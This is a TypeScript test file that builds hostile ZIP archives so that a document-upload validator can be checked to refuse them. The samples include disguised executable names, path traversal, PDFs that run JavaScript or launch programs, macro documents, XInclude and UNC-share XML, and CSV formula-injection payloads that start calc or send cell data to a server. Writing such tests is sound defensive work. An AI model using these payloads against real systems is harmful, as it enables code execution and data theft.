import { crc32 } from 'node:zlib'
import type { ProblemCode } from '#contract/errors.ts'
import { zipOf } from '#tests/support/zip.ts'
import { buildDocx, inside } from './build-office.ts'
import { buildPdf } from './build-pdf.ts'
import type { Hostile } from './document.ts'

const PDF = buildPdf({})
type Row = [name: string, does: string, refused: ProblemCode, file: string, content?: Buffer | string]

const OFFICE_2006 = 'http://schemas.microsoft.com/office/2006'
const COMMAND = "=cmd|'/C calc'!A0"
const inArchive = (file: string, each: [name: string, does: string, content: string][]): Row[] =>
  each.map(([name, does, content]) => [name, does, 'archive_has_refused_file', file, content])

const rows: Row[] = [
  [
    'dot-behind',
    'loses its last dot on Windows, and is a program',
    'archive_has_unsafe_names',
    'a.exe.',
    'MZ',
  ],
  [
    'space-behind',
    'loses its last blank on Windows, and is a program',
    'archive_has_unsafe_names',
    'a.exe ',
    'MZ',
  ],
  ['dots-behind', 'loses all its last signs', 'archive_has_unsafe_names', 'a.pdf.exe. .', 'MZ'],
  ['pif', 'is a program by an old name', 'archive_has_programs', 'a.pif', 'MZ'],
  ['docm', 'is a document with macros', 'archive_has_programs', 'a.docm', 'PK'],
  ['capitals', 'is a program in capitals', 'archive_has_programs', 'A.EXE', 'MZ'],
  ['wide-letters', 'is a program in wide letters', 'archive_has_programs', 'a.\uff45\uff58\uff45', 'MZ'],
  ['wide-dot', 'has a dot that is none', 'archive_has_unsafe_names', 'a\uff0eexe', 'MZ'],
  ['small-dot', 'has a dot that becomes one', 'archive_has_unsafe_names', 'a\u2024exe.pdf', PDF],
  ['other-dot', 'has a sign that looks like a dot', 'archive_has_other_types', 'a\ua4f8pdf', 'MZ'],
  ['stream-of-file', 'writes a stream behind a file', 'archive_has_unsafe_names', 'a.pdf:x.exe', 'MZ'],
  ['stream-default', 'names the stream that each file has', 'archive_has_unsafe_names', 'a.exe::$DATA', 'MZ'],
  ['turned-around', 'shows its extension turned around', 'archive_has_unsafe_names', 'a\u202efdp.exe', 'MZ'],
  ['isolated', 'turns text around by a newer sign', 'archive_has_unsafe_names', 'a\u2067fdp.exe', 'MZ'],
  ['invisible', 'hides a sign in its extension', 'archive_has_unsafe_names', 'a.e\u200bxe', 'MZ'],
  ['control-sign', 'ends early for some', 'archive_has_unsafe_names', 'a.exe\u0001.pdf', PDF],
  ['nul', 'ends at its NUL for some', 'archive_has_unsafe_names', 'a.exe\0.pdf', PDF],
  ['upwards', 'writes elsewhere', 'archive_has_unsafe_names', '../a.pdf', PDF],
  ['upwards-windows', 'writes elsewhere on Windows', 'archive_has_unsafe_names', '..\\a.pdf', PDF],
  ['drive', 'writes to a drive', 'archive_has_unsafe_names', 'C:/a.pdf', PDF],
  ['root', 'writes from the root', 'archive_has_unsafe_names', '/etc/a.pdf', PDF],
  ['device', 'is a device on Windows', 'archive_has_unsafe_names', 'CON.pdf', PDF],
  ['shortcut', 'is a shortcut to a program', 'archive_has_programs', 'a.pdf.lnk', 'L'],
  ['shortcut-web', 'is a shortcut to the network', 'archive_has_programs', 'a.url', '[InternetShortcut]'],
  ['disk', 'is a disk, whose files carry no mark of the web', 'archive_has_archives', 'a.iso', 'a'],
  ['without-extension', 'is nothing that is listed', 'archive_has_other_types', 'run', '#!/bin/sh'],
  ['old-sheet', 'is a sheet whose macros nobody looks for', 'archive_has_other_types', 'a.xls', 'a'],
  ['library', 'is a library of programs for Excel', 'archive_has_other_types', 'a.xll', 'MZ'],
  ['settings', 'shows an icon of the network', 'archive_has_other_types', 'desktop.ini', '[.ShellClassInfo]'],
  ['false-picture', 'is a program with the name of a picture', 'archive_has_refused_file', 'a.png', 'MZ'],
  ['false-pdf', 'is a page with the name of a PDF', 'archive_has_refused_file', 'a.pdf', '<html>'],
  [
    'false-junk',
    'is a program among the files of a system',
    'archive_has_refused_file',
    '__MACOSX/._a.exe',
    'MZ',
  ],
  [
    'pdf-with-script',
    'holds a PDF with a script',
    'archive_has_refused_file',
    'a.pdf',
    buildPdf({ catalog: '/OpenAction << /S /JavaScript /JS (a) >>', isPacked: true }),
  ],
  [
    'pdf-that-launches',
    'holds a PDF that starts a program',
    'archive_has_refused_file',
    'b/c/a.PDF',
    buildPdf({ catalog: '/OpenAction << /S /Launch /F (a) >>' }),
  ],
  [
    'word-with-macros',
    'holds a document with macros',
    'archive_has_refused_file',
    'a.docx',
    buildDocx({ related: [inside('vbaProject', 'a')] }),
  ],
  [
    'sheet-with-command',
    'starts a program from a sheet without a format',
    'archive_has_refused_file',
    'a.csv',
    "a,=cmd|'/C calc'!A0",
  ],
  [
    'page-of-xml',
    'is a page with a script',
    'archive_has_refused_file',
    'a.xml',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
  ],
  ...inArchive('a.xml', [
    [
      'page-spelled',
      'spells that it is a page',
      '<a xmlns="http://www.w3.org/1999/xht&#109;l"><script/></a>',
    ],
    ['xml-of-word', 'opens Word with its references', '<?mso-application progid="Word.Document"?><a/>'],
    ['xml-of-office', 'is a document in one part', `<a xmlns="${OFFICE_2006}/xmlPackage"/>`],
    ['xml-of-styles', 'runs scripts of a style', '<?xml-stylesheet href="a.xsl" type="text/xsl"?><a/>'],
    [
      'xml-of-old-office',
      'is a document of OpenOffice 1',
      '<o:document xmlns:o="http://openoffice.org/2000/office"/>',
    ],
    ['xml-of-book', 'is a book with pictures elsewhere', '<article xmlns="http://docbook.org/ns/docbook"/>'],
    [
      'xml-includes',
      'takes in a file of a server',
      '<x:include href="http://host/x" xmlns:x="http://www.w3.org/2001/XInclude"/>',
    ],
    [
      'xml-schema-share',
      'has its schema on a share',
      '<a x:schemaLocation="urn:a \\\\host\\x.xsd" xmlns:x="http://www.w3.org/2001/XMLSchema-instance"/>',
    ],
    ['xml-utf7', 'hides what it is in UTF-7', '<?xml version="1.0" encoding = "utf-7"?><a/>'],
  ]),
  ...inArchive('a.csv', [
    ['sheet-with-mark', 'begins with a mark that Excel drops', `\ufeff${COMMAND}`],
    ['sheet-of-lines', 'ends its lines as a Mac of old', `a\r${COMMAND}\r`],
    ['sheet-quoted', 'begins a formula with a quoted text', `"=""a""&cmd|'/C calc'!A0"`],
    ['sheet-unquoted', 'has such a text without quotes around', `="a"&cmd|'/C calc'!A0`],
    ['sheet-behind-quote', 'goes on behind its closing quote', `"=cmd"|'/C calc'!A0`],
    ['sheet-over-lines', 'ends a line within a formula', `"=1+\ncmd|'/C calc'!A0"`],
    ['sheet-that-sends', 'sends a cell to a server', 'x,"=WEBSERVICE  (""http://host/""&A1)"'],
    ['sheet-that-links', 'opens a file when it is pressed', '"=HYPERLINK(""file://host/a.exe"";""a"")"'],
    ['sheet-parted-oddly', 'says itself what parts its cells', `sep=x\naxa${COMMAND}`],
    ['sheet-unclosed', 'hides a formula behind a quote without an end', `"a\n${COMMAND},""`],
    ['sheet-of-old', 'is a sheet of an old format, with formulas', 'ID;PWXL;N;E\nC;Y1;X1;E1+1\nE'],
  ]),
]

const patched = (patch: (zip: Buffer) => void) => () => {
  const zip = zipOf([{ name: 'a.pdf', content: PDF }])
  patch(zip)
  return zip
}

/** As `zip` of Info-ZIP writes it: a name in UTF-8 beside the one of the header. */
function renamed(): Buffer {
  const [name, other] = [Buffer.from('a.txt'), Buffer.from('a.exe')]
  const extra = Buffer.alloc(9 + other.length)
  extra.writeUInt16LE(0x7075, 0)
  extra.writeUInt16LE(5 + other.length, 2)
  extra[4] = 1
  extra.writeUInt32LE(crc32(name), 5)
  other.copy(extra, 9)
  const zip = zipOf([{ name: 'a.txt', content: 'MZ' }])
  const directory = zip.indexOf(Buffer.from('PK\x01\x02'))
  const end = zip.subarray(-22)
  zip.writeUInt16LE(extra.length, directory + 30)
  end.writeUInt32LE(end.readUInt32LE(12) + extra.length, 12)
  return Buffer.concat([zip.subarray(0, -22), extra, end])
}

export const archives: Hostile[] = [
  ...rows.map(([name, does, refused, file, content = 'a']) => ({
    name,
    does,
    refused,
    type: 'zip' as const,
    make: () =>
      zipOf([
        { name: 'plan.pdf', content: PDF },
        { name: file, content },
      ]),
  })),
  {
    name: 'link-of-unix',
    does: 'is a link to a file of who unpacks it',
    refused: 'archive_has_unsafe_names',
    type: 'zip',
    make: patched((zip) => zip.writeUInt32LE(0xa1ff0000, zip.indexOf(Buffer.from('PK\x01\x02')) + 38)),
  },
  {
    name: 'packed-otherwise',
    does: 'is packed otherwise for programs that read from the front',
    refused: 'file_damaged',
    type: 'zip',
    make: patched((zip) => zip.writeUInt16LE(0, 8)),
  },
  {
    name: 'two-names',
    does: 'has another name for some programs',
    refused: 'file_damaged',
    type: 'zip',
    make: renamed,
  },
  {
    name: 'files-twice',
    does: 'holds two files of one name, of which each program takes another',
    refused: 'file_damaged',
    type: 'zip',
    make: () =>
      zipOf([
        { name: 'a.pdf', content: PDF },
        { name: 'a.pdf', content: 'MZ' },
      ]),
  },
]
